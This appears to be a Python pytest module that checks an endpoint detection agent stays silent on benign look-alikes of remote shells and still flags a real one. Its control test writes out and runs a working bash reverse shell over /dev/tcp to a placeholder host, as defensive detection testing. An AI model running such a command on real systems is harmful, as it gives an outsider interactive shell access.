"""Ordinary work that resembles a remote shell, many cases at a time, before one real agent, which must be silent."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from benign.cases import ALL, Case
from benign.session import SETTLE_S, Session, hold
from live.account import Account
from live.agent import LiveAgent, Reported, live_agent
from live.channels import Transport
from live.programs import Language, prepare, turn
from live.shells import Speech, control
from live.web import web_server
from live.work import Done, work

HIGH = 4
"""OCSF severity_id."""
BROKER = """
[[detect.trusted_broker]]
exe = "*/python*"
argv = ["*/trusted-broker/main.py"]
"""

each_case = pytest.mark.parametrize("case", ALL, ids=lambda case: case.name)


@pytest.fixture(scope="module")
def agent(account: Account, folder: Path) -> Iterator[LiveAgent]:
    """The one agent of this module; the broker of one case is registered with it."""
    with live_agent(account, folder / "agent", BROKER) as running:
        yield running


@pytest.fixture(scope="module")
def session(request: pytest.FixtureRequest, account: Account, folder: Path, agent: LiveAgent) -> Session:
    """All chosen cases, over."""
    with web_server() as web:

        def run(case: Case) -> Done:
            command = prepare(account, folder / case.name, case.language, case.text)
            with turn(case.language):
                return work(account, folder / case.name, command, {"WEB": web}, case.expects)

        return hold(request, agent, ALL, run)


def is_nobodys(finding: Reported, known: frozenset[int]) -> bool:
    """Return whether a finding belongs to no case, and not to another program of this machine either.

    The line of a process that these tests did not start reaches pid 1 without passing them.
    """
    foreign = 1 in finding.line_pids and os.getpid() not in finding.line_pids
    return not foreign and not finding.line_pids & known


@each_case
def test_case_is_real(case: Case, session: Session) -> None:
    """The program does its work to the end beside a watching agent."""
    done = session.of(case)
    assert done.done, done.said


@each_case
def test_look_alike_is_not_reported(case: Case, session: Session) -> None:
    """No finding from medium severity on names a process of ordinary work, or one of nobody's while it ran."""
    done = session.of(case)
    known = frozenset[int]().union(*(other.result().pids for other in session.cases.values() if not other.exception()))
    assert [
        finding
        for finding in session.findings
        if finding.line_pids & done.pids
        or (is_nobodys(finding, known) and done.started <= finding.at <= done.ended + SETTLE_S)
    ] == []


def test_agent_was_watching(account: Account, folder: Path, session: Session, agent: LiveAgent) -> None:
    """The silence means something: the same agent reports a real shell that comes after all the look-alikes."""
    text = "exec bash -i <>/dev/tcp/$HOST/$PORT >&0 2>&0"
    command = prepare(account, folder / "control", Language.BASH, text)
    shell = control(account, folder / "control", command, Transport.TCP, Speech.SH)
    assert shell.proved, shell.said
    assert agent.wait_finding(shell.pids, HIGH, SETTLE_S), agent.log()
